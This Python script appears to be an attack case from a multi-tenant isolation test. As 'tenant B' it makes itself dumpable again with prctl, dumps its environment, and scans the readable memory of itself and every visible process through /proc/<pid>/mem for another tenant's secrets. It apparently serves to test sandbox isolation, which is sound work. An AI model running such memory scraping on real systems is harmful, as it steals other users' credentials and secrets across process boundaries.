# Tenant B reads every readable byte of its own memory (/proc/self/maps + /proc/self/mem),
# and of any other process it can see, looking for another tenant's secrets.
#
# MT['needles'] holds 24-byte slices of tenant A's secrets, as hex: B's code never holds what
# follows a slice in A's secret. Every hit is printed with the bytes that follow it in memory
# ("HIT <index> <address> <following bytes, hex> <region>"); the test compares those with A's
# secret, so B's own copies of the needles (which are followed by anything else) are told
# apart from a real copy of A's secret, which is followed by the rest of it.
#
# MT['canary'] is one of the needles followed by its continuation, kept alive here: a scan
# that does not report it with its continuation did not really read this process's heap.
# MT['own'], when given, names B's own environment variable, one of whose slices is a needle
# too: it must be found the same way.
import os

CONTEXT = 24
CHUNK = 1 << 20
MAX_HITS = 64

NEEDLES = [bytes.fromhex(h) for h in MT['needles']]
CANARY = bytes.fromhex(MT['canary'])  # alive until the scan is over; its slice is a needle


def regions(pid):
    found = []
    with open('/proc/%s/maps' % pid) as f:
        for line in f:
            fields = line.split()
            lo, hi = (int(x, 16) for x in fields[0].split('-'))
            if fields[1][0] == 'r':
                found.append((lo, hi, '_'.join(fields[5:]) or '[anon]'))
    return found


def scan(pid, label):
    """Scans the readable memory of `pid`; prints the hits and what was read."""
    try:
        maps = regions(pid)
        fd = os.open('/proc/%s/mem' % pid, os.O_RDONLY)
    except OSError as ex:
        blocked('read-mem-%s' % label, ex.errno)
        return
    hits = [0] * len(NEEDLES)
    read = errors = 0
    try:
        for lo, hi, name in maps:
            pos = lo
            while pos < hi:
                n = min(CHUNK, hi - pos)
                try:
                    # The overlap finds a needle that straddles two chunks, with its context.
                    data = os.pread(fd, min(n + 64, hi - pos), pos)
                except OSError:
                    errors += 1
                    break
                if not data:
                    break
                read += min(n, len(data))
                for k, needle in enumerate(NEEDLES):
                    i = data.find(needle)
                    while 0 <= i < n:
                        if hits[k] < MAX_HITS:
                            hits[k] += 1
                            after = data[i + len(needle):i + len(needle) + CONTEXT]
                            print('HIT %d %x %s %s' % (k, pos + i, after.hex() or '-', name))
                        i = data.find(needle, i + 1)
                pos += n
    finally:
        os.close(fd)
    if pid != 'self' and read:
        allowed('read-mem-%s' % label, '%d bytes' % read)
    print('SCANNED %s %d %d %d' % (label, read, len(maps), errors))


# A process that is not dumpable cannot open its own /proc files: any code can make itself
# dumpable again, and so does this attack.
PR_GET_DUMPABLE, PR_SET_DUMPABLE = 3, 4
print('DUMPABLE was=%d' % LIBC.prctl(PR_GET_DUMPABLE, 0, 0, 0, 0))
LIBC.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)

# The session's environment as its code sees it, and as the kernel recorded it at exec.
env = dict(os.environ)
print('ENVKEYS ' + ' '.join(sorted(env)))
print('ENVRAW ' + '\0'.join('%s=%s' % kv for kv in sorted(env.items())).encode().hex())
try:
    print('PROCENV ' + read_file('/proc/self/environ').hex())
except OSError as ex:
    print('PROCENV -')
    blocked('read-own-environ', ex.errno)
if MT.get('own'):
    print('OWN %d' % len(os.environ.get(MT['own'], '')))

scan('self', 'self')
me = os.getpid()
for entry in sorted(os.listdir('/proc')):
    if entry.isdigit() and int(entry) != me:
        scan(entry, entry)
print('DONE')
